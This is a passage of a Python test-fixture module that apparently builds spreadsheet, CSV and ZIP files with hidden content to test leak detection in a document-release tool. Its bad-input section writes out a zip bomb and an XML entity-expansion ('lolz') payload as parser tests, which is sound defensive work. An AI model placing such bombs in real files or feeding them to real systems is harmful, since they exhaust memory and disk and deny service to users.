            text_file(CSV_HEAD + "Change,-12\r\nRate,+3.5\r\nShare,-0.5%\r\nBig,-1.2e3\r\n"),
            *VISIBLE,
            "-12",
        ),
        clean("clean_utf8_bom.csv", text_file("\ufeff" + CSV_HEAD + "Café,3\r\n"), *VISIBLE, "Café"),
    ]


# ------------------------------------------------------------------ ZIP


def zip_of(
    members: dict[str, Callable[[Path], None] | bytes], comment: bytes = b""
) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, source in members.items():
                if isinstance(source, bytes):
                    archive.writestr(name, source)
                else:
                    member = path.with_name(f"{path.stem}-member-{Path(name).name}")
                    source(member)
                    archive.write(member, name)
                    member.unlink()
            archive.comment = comment

    return build


def _zip_entries() -> list[CorpusFile]:
    clean_csv = text_file(CSV_HEAD)
    return [
        leaky(
            "zip_hidden_sheet.zip",
            zip_of({"answer/headcount.xlsx": xlsx(_hidden_sheet("hidden", "SECRET-ZIPPED-SHEET"))}),
            {"xlsx.hidden_sheet"},
            "SECRET-ZIPPED-SHEET",
            *VISIBLE,
        ),
        leaky(
            "zip_nested.zip",
            zip_of({"inner.zip": zip_of({"data.csv": text_file(CSV_HEAD + "Contact,JG103759A\r\n")})}),
            {"csv.personal_data"},
            "JG103759A",
            *VISIBLE,
        ),
        leaky(
            "zip_system_files.zip",
            zip_of({"data.csv": clean_csv, "__MACOSX/._data.csv": b"SECRET-RESOURCE-FORK"}),
            {"zip.system_file"},
            "SECRET-RESOURCE-FORK",
            *VISIBLE,
        ),
        leaky(
            "zip_comment.zip",
            zip_of({"data.csv": clean_csv}, comment=b"SECRET-ZIP-COMMENT"),
            {"zip.comment"},
            "SECRET-ZIP-COMMENT",
            *VISIBLE,
        ),
        clean(
            "clean_archive.zip",
            zip_of({"data.csv": clean_csv, "summary.xlsx": xlsx(lambda workbook: None)}),
            *VISIBLE,
        ),
    ]


def entries() -> list[CorpusFile]:
    from tests.core.release_check import corpus_ods_red, corpus_xlsx_red

    return (
        _xlsx_entries()
        + _clean_xlsx_entries()
        + corpus_xlsx_red.entries()
        + _ods_entries()
        + corpus_ods_red.entries()
        + _csv_entries()
        + _zip_entries()
    )


# ------------------------------------------------------------------ bad input


def zip_bomb(path: Path) -> None:
    """One member of 64 MB of zeros: about 64 KB on disk, a ratio of 1000:1."""
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("zeros.csv", "w") as sink,
    ):
        chunk = b"0" * (1 << 20)
        for _ in range(64):
            sink.write(chunk)


def nested_zips(depth: int) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        data = CSV_HEAD.encode()
        name = "data.csv"
        for level in range(depth):
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w") as archive:
                archive.writestr(name, data)
            data, name = buffer.getvalue(), f"level{level}.zip"
        path.write_bytes(data)

    return build


def truncated_xlsx(path: Path) -> None:
    summary_workbook().save(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def pdf_named_xlsx(path: Path) -> None:
    path.write_bytes(b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def encrypted_xlsx(path: Path) -> None:
    """A password-protected workbook (MS-OFFCRYPTO agile encryption) made with msoffcrypto-tool."""
    import msoffcrypto.format.ooxml

    plain = path.with_suffix(".plain.xlsx")
    summary_workbook().save(plain)
    with open(plain, "rb") as source, open(path, "wb") as target:
        msoffcrypto.format.ooxml.OOXMLFile(source).encrypt("secret-password", target)
    plain.unlink()


def entity_bomb_xlsx(path: Path) -> None:
    summary_workbook().save(path)
    laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'

    def change(parts: dict[str, bytes]) -> None:
        text = parts["xl/worksheets/sheet1.xml"].decode()
        parts["xl/worksheets/sheet1.xml"] = re.sub(
            r"^(<\?xml[^>]*\?>)?", lambda m: (m.group(0) or "") + laughs, text, count=1
        ).encode()

    rewrite_zip(path, change)


def corrupt_member_xlsx(path: Path) -> None:
    summary_workbook().save(path)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for offset in range(start + 5, start + min(info.compress_size, 60)):
        data[offset] ^= 0x5A
    path.write_bytes(bytes(data))


BAD_INPUTS: dict[str, Callable[[Path], None]] = {
    "zip_bomb.zip": zip_bomb,
    "too_deep.zip": nested_zips(5),
    "truncated.xlsx": truncated_xlsx,
    "empty.xlsx": lambda path: path.write_bytes(b""),
    "encrypted.xlsx": encrypted_xlsx,
    "entity_bomb.xlsx": entity_bomb_xlsx,
    "corrupt_member.xlsx": corrupt_member_xlsx,
    "random.bin": lambda path: path.write_bytes(bytes(range(256)) * 8),
}


# ------------------------------------------------------------------ reading a copy back


def visible_text(path: Path) -> str:
    """Every value a reader sees in a spreadsheet, CSV or archive of them, read by the real libraries."""
    data = path.read_bytes()
    if data.startswith(b"PK") and path.suffix.lower() == ".zip":
        parts = []
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                member = path.with_name(f"{path.stem}-read-{Path(name).name}")
                member.write_bytes(archive.read(name))
                parts.append(visible_text(member))
                member.unlink()
        return "\n".join(parts)
    if path.suffix.lower() in (".xlsx", ".xlsm"):
        workbook = openpyxl.load_workbook(path, read_only=True)
        values = [
            str(v)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows(values_only=True)
            for v in row
            if v is not None
        ]
        workbook.close()
        return "\n".join(values)
    if path.suffix.lower() == ".ods":
        from odf import teletype
        from odf.opendocument import load
        from odf.table import TableCell

        document = load(str(path))
        return "\n".join(
            teletype.extractText(cell) for cell in document.spreadsheet.getElementsByType(TableCell)
        )
    return data.decode("utf-8-sig")


_BUILT: dict[str, list[tuple[CorpusFile, Path]]] = {}


def built_corpus() -> list[tuple[CorpusFile, Path]]:
    """The corpus, built once per test session into a temporary folder."""
    import tempfile

    from tests.core.release_check.corpus import build_all

    if "corpus" not in _BUILT:
        _BUILT["corpus"] = build_all(entries(), Path(tempfile.mkdtemp(prefix="foidesk-corpus-")))
    return _BUILT["corpus"]


# ------------------------------------------------------------------ raw workbooks, as Excel writes them


MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
PLAIN_STYLES = (
    f'<styleSheet xmlns="{MAIN_NS}"><fonts count="2"><font><sz val="11"/></font><font><sz val="11"/><color rgb="FFFFFFFF"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border/></borders><cellXfs count="2"><xf numFmtId="0" fontId="0"/><xf numFmtId="0" fontId="1"/></cellXfs></styleSheet>'
)


def raw_xlsx(path: Path, rows: str, strings: list[str], tail: str = "") -> None:
    """A workbook with shared strings and one sheet whose ``<sheetData>`` holds ``rows`` (cell ``s="1"`` is white text),
    followed by ``tail`` (merged cells, say)."""
    items = "".join(f"<si><t>{text}</t></si>" for text in strings)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{PKG_NS}"><Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{PKG_NS}"><Relationship Id="rId1" Type="{REL_NS}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
            f'<Relationship Id="rId3" Type="{REL_NS}/styles" Target="styles.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/sharedStrings.xml",
            f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{MAIN_NS}" count="{len(strings)}">{items}</sst>',
        )
        archive.writestr("xl/styles.xml", PLAIN_STYLES)
        archive.writestr(
            "xl/worksheets/sheet1.xml",
            f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{MAIN_NS}"><sheetData>{rows}</sheetData>{tail}</worksheet>',
        )


def plain_row(number: int, label: int, value: int) -> str:
    return f'<row r="{number}" spans="1:2"><c r="A{number}" t="s"><v>{label}</v></c><c r="B{number}"><v>{value}</v></c></row>'
